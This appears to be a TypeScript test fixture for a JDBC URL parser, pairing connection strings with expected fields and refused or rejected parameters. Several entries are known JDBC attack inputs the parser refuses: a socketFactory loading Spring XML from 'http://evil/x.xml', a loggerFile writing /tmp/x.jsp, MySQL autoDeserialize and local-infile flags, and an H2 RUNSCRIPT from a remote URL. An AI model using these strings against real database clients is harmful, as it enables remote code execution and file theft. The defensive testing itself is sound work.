import type { Taken, Wrong } from './text.ts';

/** JDBC URLs, as people paste them, and as nobody should. */
export const JDBC: Taken[] = [
  [
    'jdbc:postgresql://db.example.com:5432/shop?user=app&password=s3cr3t',
    'postgresql',
    { host: 'db.example.com', port: 5432, database: 'shop', user: 'app', password: 's3cr3t' },
  ],
  [
    'jdbc:postgresql://db/shop?ssl=true&sslmode=verify-full&ApplicationName=shop&currentSchema=sales',
    'postgresql',
    { host: 'db', database: 'shop', 'tls.mode': 'verify-full', 'options.applicationName': 'shop', schema: 'sales' },
  ],
  [
    'jdbc:postgresql://h1:5432,h2:5432/shop?targetServerType=primary',
    'postgresql',
    { database: 'shop' },
    { ignored: ['targetServerType'], refused: ['host'] },
  ],
  [
    'jdbc:postgresql://db/shop?sslfactory=org.postgresql.ssl.NonValidatingFactory',
    'postgresql',
    { host: 'db', database: 'shop' },
    { refused: ['sslfactory'] },
  ],
  [
    'jdbc:postgresql://db/shop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml',
    'postgresql',
    { host: 'db', database: 'shop' },
    { refused: ['socketFactory', 'socketFactoryArg'] },
  ],
  [
    'jdbc:postgresql://db/shop?loggerLevel=TRACE&loggerFile=/tmp/x.jsp',
    'postgresql',
    { host: 'db', database: 'shop' },
    { ignored: ['loggerLevel'], refused: ['loggerFile'] },
  ],
  [
    'jdbc:mysql://db.example.com:3306/shop?user=app&password=s3cr3t&useSSL=true&serverTimezone=UTC',
    'mysql',
    {
      host: 'db.example.com',
      port: 3306,
      database: 'shop',
      user: 'app',
      password: 's3cr3t',
      'options.timeZone': '+00:00',
      'tls.mode': 'verify-full',
    },
  ],
  [
    'jdbc:mysql://db/shop?useSSL=false&allowPublicKeyRetrieval=true',
    'mysql',
    { host: 'db', database: 'shop', 'tls.mode': 'disable' },
    { refused: ['allowPublicKeyRetrieval'] },
  ],
  [
    'jdbc:mysql://db/shop?useSSL=true&verifyServerCertificate=false',
    'mysql',
    { host: 'db', database: 'shop', 'tls.mode': 'verify-full' },
    { refused: ['verifyServerCertificate'] },
  ],
  [
    'jdbc:mysql://db/shop?sslMode=VERIFY_CA&trustCertificateKeyStoreUrl=file:/ca.jks',
    'mysql',
    { host: 'db', database: 'shop', 'tls.mode': 'verify-ca' },
    { refused: ['trustCertificateKeyStoreUrl'] },
  ],
  [
    'jdbc:mysql://db/shop?allowLoadLocalInfile=true&allowUrlInLocalInfile=true&autoDeserialize=true',
    'mysql',
    { host: 'db', database: 'shop' },
    { refused: ['allowLoadLocalInfile', 'allowUrlInLocalInfile', 'autoDeserialize'] },
  ],
  ['jdbc:mysql:loadbalance://h1,h2/shop', 'mysql', { database: 'shop' }, { refused: ['host', 'loadbalance'] }],
  ['jdbc:mysql:replication://h1/shop', 'mysql', { host: 'h1', database: 'shop' }, { refused: ['replication'] }],
  ['jdbc:mysql://address=(host=db)(port=3306)/shop', 'mysql', { database: 'shop' }, { refused: ['host'] }],
  [
    'jdbc:mysql://db/shop?characterEncoding=UTF-8&allowMultiQueries=true',
    'mysql',
    { host: 'db', database: 'shop', 'options.charset': 'utf8mb4' },
    { refused: ['allowMultiQueries'] },
  ],
  [
    'jdbc:mariadb://db:3307/shop?user=app&password=pw&sslMode=trust',
    'mysql',
    { host: 'db', port: 3307, database: 'shop', user: 'app', password: 'pw' },
    { refused: ['sslMode'] },
  ],
  [
    'jdbc:mariadb://db/shop?trustServerCertificate=true',
    'mysql',
    { host: 'db', database: 'shop' },
    { refused: ['trustServerCertificate'] },
  ],
  [
    'jdbc:mariadb://db/shop?sslMode=verify-full&serverSslCert=/ca.pem',
    'mysql',
    { host: 'db', database: 'shop', 'tls.mode': 'verify-full' },
    { refused: ['serverSslCert'] },
  ],
  [
    'jdbc:sqlserver://db.example.com:1433;databaseName=shop;user=app;password=s3cr3t;encrypt=true',
    'sqlserver',
    {
      host: 'db.example.com',
      port: 1433,
      database: 'shop',
      user: 'app',
      password: 's3cr3t',
      'tls.mode': 'verify-full',
    },
  ],
  [
    'jdbc:sqlserver://db\\SQLEXPRESS;databaseName=shop;user=app;password={p;w}',
    'sqlserver',
    { host: 'db', instance: 'SQLEXPRESS', database: 'shop', user: 'app', password: 'p;w' },
  ],
  ['jdbc:sqlserver://db\\SQLEXPRESS', 'sqlserver', { host: 'db', instance: 'SQLEXPRESS' }],
  [
    'jdbc:sqlserver://;serverName=db;portNumber=1434;databaseName=shop',
    'sqlserver',
    { host: 'db', port: 1434, database: 'shop' },
  ],
  [
    'jdbc:sqlserver://db;serverName=evil;databaseName=shop',
    'sqlserver',
    { host: 'db', database: 'shop' },
    { refused: ['serverName'] },
  ],
  [
    'jdbc:sqlserver://db;encrypt=true;trustServerCertificate=true;loginTimeout=7',
    'sqlserver',
    { host: 'db', 'pool.connectTimeoutMs': 7000, 'tls.mode': 'verify-full' },
    { refused: ['trustServerCertificate'] },
  ],
  [
    'jdbc:sqlserver://db;integratedSecurity=true;authenticationScheme=JavaKerberos',
    'sqlserver',
    { host: 'db' },
    { refused: ['integratedSecurity', 'authenticationScheme'] },
  ],
  [
    'jdbc:sqlserver://db;trustStore=/x.jks;trustStorePassword=pw;hostNameInCertificate=db.internal',
    'sqlserver',
    { host: 'db', 'tls.serverName': 'db.internal' },
    { refused: ['trustStore', 'trustStorePassword'] },
  ],
  [
    'jdbc:sqlserver://db;socketFactoryClass=evil.Factory;failoverPartner=db2',
    'sqlserver',
    { host: 'db' },
    { refused: ['socketFactoryClass', 'failoverPartner'] },
  ],
  ['jdbc:sqlserver://[::1]:1433;encrypt=strict', 'sqlserver', { host: '::1', port: 1433, 'tls.mode': 'verify-full' }],
  [
    'jdbc:jtds:sqlserver://db:1433/shop;instance=X;user=app;password=pw',
    'sqlserver',
    { host: 'db', port: 1433, database: 'shop', instance: 'X', user: 'app', password: 'pw' },
  ],
  [
    'jdbc:oracle:thin:@//db.example.com:1521/ORCLPDB1',
    'oracle',
    { host: 'db.example.com', port: 1521, serviceName: 'ORCLPDB1' },
  ],
  [
    'jdbc:oracle:thin:@db.example.com:1521/ORCLPDB1',
    'oracle',
    { host: 'db.example.com', port: 1521, serviceName: 'ORCLPDB1' },
  ],
  [
    'jdbc:oracle:thin:@db.example.com:1521:ORCL',
    'oracle',
    { host: 'db.example.com', port: 1521 },
    { refused: ['SID'] },
  ],
  [
    'jdbc:oracle:thin:app/s3cr3t@//db.example.com:1521/ORCLPDB1',
    'oracle',
    { host: 'db.example.com', port: 1521, serviceName: 'ORCLPDB1', user: 'app', password: 's3cr3t' },
  ],
  [
    'jdbc:oracle:thin:app/s3c@ret@db.example.com:1521/ORCLPDB1',
    'oracle',
    { host: 'db.example.com', port: 1521, serviceName: 'ORCLPDB1', user: 'app', password: 's3c@ret' },
  ],
  [
    'jdbc:oracle:thin:@tcps://db.example.com:2484/ORCLPDB1?wallet_location=/opt/w&ssl_server_dn_match=false',
    'oracle',
    { host: 'db.example.com', port: 2484, serviceName: 'ORCLPDB1', 'tls.mode': 'verify-full' },
    { refused: ['wallet_location', 'ssl_server_dn_match'] },
  ],
  [
    'jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db.example.com)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=ORCLPDB1)))',
    'oracle',
    { host: 'db.example.com', port: 1521, serviceName: 'ORCLPDB1' },
  ],
  ['jdbc:oracle:oci:@//db:1521/X', 'oracle', { host: 'db', port: 1521, serviceName: 'X' }],
  [
    'jdbc:dm://dm.example.com:5236?user=app&password=pw&schema=SHOP',
    'dm',
    { host: 'dm.example.com', port: 5236, user: 'app', password: 'pw', schema: 'SHOP' },
  ],
  ['jdbc:dm://dm.example.com:5236/SHOP', 'dm', { host: 'dm.example.com', port: 5236, schema: 'SHOP' }],
  [
    'jdbc:dm://dm.example.com:5236?appName=shop&socketTimeout=10',
    'dm',
    { host: 'dm.example.com', port: 5236 },
    { ignored: ['appName', 'socketTimeout'] },
  ],
  ['jdbc:sqlite:main.db', 'sqlite', { file: 'main.db' }],
  ['jdbc:sqlite:/abs/main.db', 'sqlite', {}, { refused: ['file'] }],
  ['jdbc:sqlite::memory:', 'sqlite', {}, { refused: ['file'] }],
];

export const JDBC_WRONG: Wrong[] = [
  [
    'jdbc:',
    'After jdbc:, at character 6, one of postgresql, mysql, mariadb, dm, sqlserver, jtds, oracle, sqlite is expected.',
  ],
  [
    'jdbc:post',
    'After jdbc:, at character 6, one of postgresql, mysql, mariadb, dm, sqlserver, jtds, oracle, sqlite is expected.',
  ],
  [
    'jdbc:postgresql',
    'After the scheme, at character 16, // is expected, as in scheme://user:password@host:port/database.',
  ],
  [
    'jdbc:postgresql:',
    'After the scheme, at character 17, // is expected, as in scheme://user:password@host:port/database.',
  ],
  ['jdbc:postgresql://', 'At character 19 a host is expected.'],
  [
    'jdbc:postgresql://db:x/shop',
    'What follows the : at character 21 is no port; scheme://user:password@host:port/database is expected.',
  ],
  [
    'jdbc:h2:mem:test',
    'After jdbc:, at character 6, one of postgresql, mysql, mariadb, dm, sqlserver, jtds, oracle, sqlite is expected.',
  ],
  [
    'jdbc:mysql:shop',
    'After the scheme, at character 12, // is expected, as in scheme://user:password@host:port/database.',
  ],
  ['jdbc:oracle:thin:', 'After jdbc:oracle:, at character 13, thin:@ and host:port/service are expected.'],
  [
    'jdbc:oracle:thin:@',
    'After the @, at character 19, host:port/service is expected; a name alone is described in a file elsewhere.',
  ],
  [
    'jdbc:oracle:thin:@ORCL?TNS_ADMIN=/x',
    'After the @, at character 19, host:port/service is expected; a name alone is described in a file elsewhere.',
  ],
  ['jdbc:oracle:thin:@//', 'From character 19 on, host:port/service is expected, such as db.example.com:1521/orders.'],
  ['jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=', 'The ( at character 32 is not closed.'],
  ['jdbc:sqlserver:db', 'From character 16 on, //host\\instance:port;key=value is expected.'],
  ['jdbc:sqlserver://', 'At character 18 a host is expected.'],
  ['jdbc:sqlserver://db;databaseName', 'key=value is expected at character 21, several joined by ;.'],
  ['jdbc:sqlserver://user:pw@db;x=y', 'From character 16 on, //host\\instance:port;key=value is expected.'],
  ['jdbc:sqlserver://db;password={p;user=x', 'The { at character 30 is not closed.'],
  ['jdbc:dm:', 'After the scheme, at character 9, // is expected, as in scheme://user:password@host:port/database.'],
  ['jdbc:sqlite:', 'A path is expected after the scheme, such as sqlite:main.db.'],
  [
    'jdbc:derby:foo;create=true',
    'After jdbc:, at character 6, one of postgresql, mysql, mariadb, dm, sqlserver, jtds, oracle, sqlite is expected.',
  ],
  [
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://e/x'",
    'After jdbc:, at character 6, one of postgresql, mysql, mariadb, dm, sqlserver, jtds, oracle, sqlite is expected.',
  ],
];
